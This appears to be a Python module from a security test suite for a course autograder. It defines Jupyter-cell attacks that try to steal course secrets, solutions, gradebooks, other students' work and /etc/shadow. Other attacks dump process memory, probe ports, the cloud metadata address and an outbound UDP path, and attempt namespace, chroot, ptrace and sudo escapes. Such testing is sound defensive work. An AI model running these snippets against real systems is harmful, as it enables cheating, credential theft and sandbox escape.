"""Reading: the secret, the solutions, other people's work, the parent, the network.

What is found is printed, so that it would stand in what the student gets back.
"""

from .attack import Attack

FAMILY = ("偷看", "Reading")

PEEK = '''
import glob, os, pathlib, socket, subprocess, sys

def peek(*patterns, limit=3000):
    """Print the beginning of every file that can be read."""
    for pattern in patterns:
        for path in sorted(glob.glob(pattern, recursive=True))[:40]:
            try:
                with open(path, "rb") as file:
                    text = file.read(limit).replace(b"\\0", b" ").decode("utf-8", "replace")
                print(text)
            except Exception as error:
                print(type(error).__name__)
'''


def _reading(name: str, zh: str, en: str, code: str, **others) -> Attack:
    return Attack(name, zh, en, PEEK + code, rest="stub", **others)


ATTACKS = [
    _reading("read-the-secret", "读课程密钥", "reads the course's secret", '''
peek(@COURSE@ + "/.course-secret", @ROOT@ + "/.course-secret")
print(os.environ.get("COURSE_SECRET"))
'''),
    _reading("read-the-source", "读 source/ 里的解答", "reads the solutions in source/", '''
peek(@COURSE@ + "/source/*/*.ipynb", @ROOT@ + "/source/*/*.ipynb", limit=10**6)
'''),
    _reading("read-misconceptions", "读误解与参考解", "reads the misconceptions", '''
peek(@ROOT@ + "/grading/**/*.py", limit=10**6)
try:
    import inspect
    from grading import misconceptions
    print(inspect.getsource(misconceptions))
except ImportError as error:
    print(type(error).__name__)
sys.path += [@ROOT@, @COURSE@]
try:
    from grading.key import Reference
    print(Reference("03-vjp").sources)
except ImportError as error:
    print(type(error).__name__)
'''),
    _reading("read-the-gradebook", "读成绩册", "reads the gradebook", '''
peek(@COURSE@ + "/gradebook.db", @COURSE@ + "/*.csv", limit=10**6)
'''),
    _reading("read-other-submissions", "读别人的提交", "reads the submissions of others", '''
course = @COURSE@
for folder in ("submitted", "autograded", "feedback", "release", "homework"):
    peek(f"{course}/{folder}/**/*", limit=10**5)
print(*os.listdir(".."), *os.listdir("../.."))
'''),
    _reading("read-the-home-folder", "读批改者的家目录", "reads the grader's home folder", '''
peek(@HOME@ + "/.*", @HOME@ + "/*", os.path.expanduser("~/.*"), "/home/*/.*")
peek("/etc/shadow", "/etc/gshadow")
'''),
    _reading("read-the-parent", "读父进程的环境、内存与文件描述符",
             "reads the parent's environment, memory and descriptors", '''
own = str(os.getpid())
for process in sorted(set(glob.glob("/proc/[0-9]*")) - {"/proc/" + own}):
    peek(process + "/environ", process + "/cmdline", process + "/fd/*")
    try:
        with open(process + "/maps") as maps, open(process + "/mem", "rb") as memory:
            for line in maps:
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                if "rw" in line.split()[1] and end - start < 2**26:
                    memory.seek(start)
                    found = memory.read(end - start)
                    print(@WON@)
                    break
    except Exception as error:
        print(type(error).__name__)
'''),
    _reading("read-own-memory", "在自己的内存里寻找父进程留下的密钥",
             "searches its own memory for what the parent left there", '''
words = [b"secret-of-" + b"the-attacks", b"neighbours-" + b"own-code", b"BEGIN " + b"SOLUTION"]
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if line.split()[1].startswith("rw") and end - start < 2**28:
            try:
                memory.seek(start)
                found = memory.read(end - start)
            except OSError:
                continue
            for word in words:
                at = found.find(word)
                if at >= 0:
                    print(found[at - 20 : at + 80].decode("latin-1"))
'''),
    _reading("read-inherited-descriptors", "读继承来的文件描述符",
             "reads the descriptors that it inherited", '''
for number in range(3, 256):
    try:
        kind = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    try:
        os.set_blocking(number, False)
        text = os.pread(number, 1000, 0)
    except OSError as error:
        text = type(error).__name__
    print(kind.split(":")[0] if ":" in kind else kind.rsplit("/", 1)[-1], text)
'''),
    _reading("search-the-disk", "在整个文件系统里寻找课程的文件",
             "searches the whole file system for the course's files", '''
import time
end, interesting = time.monotonic() + 3, (".ipynb", ".db", ".csv", ".jsonl", "secret", "journal")
for folder, folders, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/lib")):
        folders.clear()
    if "site-packages" in folder or "python3" in folder:
        folders.clear()
    for name in names:
        if name.endswith(interesting) and "tutor" not in folder:
            peek(os.path.join(glob.escape(folder), glob.escape(name)), limit=10**5)
    if time.monotonic() > end:
        break
'''),
    _reading("read-the-host", "读主机的其他文件", "reads other files of the host", '''
peek("/etc/hostname", "/etc/machine-id", "/var/log/*", "/var/spool/**/*", "/run/*", "/tmp/*",
     "/var/tmp/*", "/dev/shm/*", "/mnt/*", "/media/*", "/srv/*", "/opt/*")
print(socket.gethostname())
for path in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kcore",
             "/proc/kallsyms", "/sys/kernel/security", "/dev/fuse", "/dev/kvm"):
    try:
        with open(path, "rb") as file:
            if path != "/proc/kallsyms" and file.read(10):
                print(@WON@, path)
    except OSError as error:
        print(type(error).__name__)
'''),
    _reading("read-the-tests", "在内核的历史、In、回溯里寻找测试",
             "looks for the tests in the history, In and tracebacks", '''
print(In[-5:], get_ipython().history_manager.input_hist_raw[-5:])
def spy(*_):
    frame = sys._getframe()
    while frame:
        print(frame.f_code.co_name, sorted(frame.f_locals)[:20])
        frame = frame.f_back
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell[:500]))
vjp = spy
''', answers={"vjp": "pass"}),
    _reading("shell-commands", "用 !、%%bash、%load、%run、%system 读文件",
             "reads files through !, %%bash, %load, %run and %system", '''
course, root = @COURSE@, @ROOT@
shell = get_ipython()
print(shell.getoutput("cat {course}/.course-secret {root}/source/*/*.ipynb", split=False))
shell.run_cell_magic("bash", "", "cat $COURSE_SECRET ../../*.db; env; ls -la / ..")
shell.run_line_magic("system", "ps aux; id; mount")
for magic, text in (("load", "{root}/grading/seeds.py"), ("pycat", "{root}/grading/seeds.py"),
                    ("run", "{root}/grading/keys.py"), ("sx", "cat /etc/shadow")):
    try:
        print(shell.run_line_magic(magic, text.format(root=root)))
    except Exception as error:
        print(type(error).__name__)
'''),
    _reading("the-network", "连接主机与外面的网络", "connects to the host and beyond", '''
socket.setdefaulttimeout(0.5)
def connect(family, kind, address):
    try:
        with socket.socket(family, kind) as link:
            link.connect(address)
            if kind == socket.SOCK_STREAM or family == socket.AF_UNIX:
                print(@WON@)
    except OSError as error:
        print(type(error).__name__)
for port in (22, 80, 443, 5432, 8080, 8786, 8787, 8888):
    connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))
for address in ("1.1.1.1", "169.254.169.254", "10.0.0.1", "192.168.0.1", "172.17.0.1"):
    connect(socket.AF_INET, socket.SOCK_STREAM, (address, 80))
connect(socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 80))
try:
    print(socket.getaddrinfo("example.com", 80) and @WON@)
except OSError as error:
    print(type(error).__name__)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(b"stolen", ("1.1.1.1", 53))
        print(@WON@)
except OSError as error:
    print(type(error).__name__)
'''),
    _reading("sockets-of-the-host", "连接主机上的 unix 套接字与抽象套接字",
             "connects to the host's unix sockets, abstract ones too", '''
names = set()
try:
    with open("/proc/net/unix") as table:
        names = {line.split()[7] for line in table if len(line.split()) > 7}
except OSError as error:
    print(type(error).__name__)
own = {name for name in names if "kernel" in name}
for name in sorted(names - own) + ["/run/dbus/system_bus_socket", "/var/run/docker.sock",
                             "/run/systemd/private", "@" + @MARK@]:
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(0.3)
        try:
            link.connect("\\0" + name[1:] if name.startswith("@") else name)
            print(@WON@, "connected")
        except OSError as error:
            print(type(error).__name__)
'''),
    _reading("other-kernels", "寻找并连接其他内核的连接文件与套接字",
             "looks for other kernels' connection files and sockets", '''
import jupyter_core.paths
from ipykernel import get_connection_file
own = get_ipython().kernel.session.key
for pattern in (jupyter_core.paths.jupyter_runtime_dir() + "/*.json", "/tmp/**/*.json",
                "/tmp/**/kernel*", "/run/**/kernel*.json", "/scratch/**/*.json"):
    for path in glob.glob(pattern, recursive=True):
        try:
            text = open(path).read(2000)
            if '"key"' in text and own.decode() not in text:
                print(@WON@)
        except OSError as error:
            print(type(error).__name__)
'''),
    _reading("the-environment", "打印全部环境变量", "prints its whole environment", '''
for name, value in os.environ.items():
    if name != "TUTOR_SEED":
        print(name, value)
''', only_here=("环境变量本身不给分；密钥是我们才有的",
                "the environment gives no points; the secret is ours alone")),
    _reading("a-user-namespace", "用新的命名空间、挂载与 chroot 逃出去",
             "tries to get out by namespaces, mounts and chroot", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    result = getattr(libc, name)(*args)
    print(name, result, ctypes.get_errno())
    return result == 0
pid = os.fork()
if pid == 0:
    try:
        won = call("setuid", 0) and os.getuid() == 0 and os.path.exists("/etc/shadow") and (
            os.access("/etc/shadow", os.W_OK))
        call("unshare", 0x10000000 | 0x00020000)
        call("mount", b"proc", b"/proc", b"proc", 0, None)
        call("mount", None, b"/", None, 32 | 4096, None)
        call("mount", b"/dev/vda", b"/tmp", b"ext4", 0, None)
        call("umount2", b"/proc", 2)
        call("pivot_root", b"/tmp", b"/tmp")
        call("sethostname", b"stolen", 6)
        call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
    except OSError as error:
        print(type(error).__name__)
    try:
        os.chroot("/proc/1/root")
        won = os.path.exists(@COURSE@)
    except OSError as error:
        print(type(error).__name__)
    found = os.path.exists(@COURSE@ + "/gradebook.db")
    os._exit(7 if won or found else 0)
if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7:
    print(@WON@)
'''),
    _reading("set-uid-programs", "用 su、sudo、mount、newgrp 取得权限",
             "asks su, sudo, mount and newgrp for rights", '''
for words in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "--bind", "/", "/mnt"],
              ["newgrp", "shadow"], ["chsh", "-s", "/bin/sh"], ["pkexec", "id"],
              ["unshare", "-r", "id"], ["nsenter", "-t", "1", "-a", "id"]):
    try:
        done = subprocess.run(words, capture_output=True, text=True, timeout=3,
                              stdin=subprocess.DEVNULL)
        print(words[0], done.returncode, done.stdout[:100])
    except Exception as error:
        print(words[0], type(error).__name__)
peek(@COURSE@ + "/.course-secret")
'''),
    _reading("trace-the-parent", "用 ptrace 与 process_vm_readv 附着到父进程",
             "attaches to the parent by ptrace and process_vm_readv", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, os.getppid()}:
    for request in (16, 0x4206):
        if libc.ptrace(request, pid, None, None) == 0:
            print(@WON@)
        else:
            print(ctypes.get_errno())
    try:
        handle = os.pidfd_open(pid)
        for number in range(64):
            taken = libc.syscall(438, handle, number, 0)
            if taken >= 0:
                print(@WON@)
                break
    except OSError as error:
        print(type(error).__name__)
'''),
]
